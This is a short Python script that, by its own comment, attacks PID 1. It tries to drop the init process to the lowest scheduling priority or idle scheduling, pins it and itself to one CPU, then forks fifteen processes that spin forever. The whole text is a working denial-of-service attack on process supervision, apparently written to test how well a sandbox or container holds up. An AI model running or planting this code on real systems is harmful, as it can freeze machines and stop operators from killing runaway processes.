# Attacks PID 1: makes it less important than many spinning processes, so that it is late to end them.
import os

for attempt in (
    lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
    lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
    lambda: os.setpriority(os.PRIO_PGRP, 1, 19),
    lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
    lambda: os.sched_setscheduler(1, os.SCHED_BATCH, os.sched_param(0)),
):
    try:
        attempt()
    except OSError:
        continue
os.sched_setaffinity(0, {0})
try:
    os.sched_setaffinity(1, {0})
except OSError:
    pass
print(os.getpriority(os.PRIO_PROCESS, 1), flush=True)
for _ in range(15):
    if os.fork() == 0:
        break
while True:
    pass
